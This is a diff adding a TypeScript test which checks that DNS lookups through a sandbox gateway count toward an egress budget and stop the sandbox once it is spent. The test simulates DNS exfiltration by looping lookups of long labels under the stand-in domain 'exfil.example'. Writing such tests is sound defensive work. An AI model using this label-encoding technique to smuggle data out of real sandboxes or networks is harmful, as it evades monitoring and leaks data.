@@ -96,3 +96,29 @@ test("flows past the egress budget stop the sandbox; the final usage event says 
   assert.equal(usage.length, 1, "one final usage event");
   assert.equal(usage[0]?.type === "usage" && usage[0].usage.network.bytes, 1100);
 });
+
+test("DNS lookups through the gateway count toward the egress budget (names carry data out)", async () => {
+  const stops: WheellockError[] = [];
+  const observer = new SandboxObserver(
+    planSandbox({ maxEgressBytes: 2000 }, {}, 4, "vm-0123abcd"),
+    new EventHub(),
+    (err) => stops.push(err),
+  );
+  const looked: string[] = [];
+  const inner: Upstream = {
+    connectTcp: () => ({ denied: "no" }),
+    openUdp: () => ({ denied: "no" }),
+    resolveIpv4: async (name) => {
+      looked.push(name);
+      return [];
+    },
+  };
+  const metered = observer.meterUpstream(inner);
+  // A guest spelling data into names: 63-byte labels, a lookup each.
+  for (let i = 0; i < 20 && stops.length === 0; i++)
+    await metered.resolveIpv4(`${"a".repeat(63)}.${i}.exfil.example`);
+  assert.ok(looked.length > 0);
+  assert.ok(stops[0] instanceof ErrBudgetExceeded, "the lookups spent the budget");
+  assert.ok((await observer.usage()).network.bytes > 2000);
+  await observer.finish();
+});
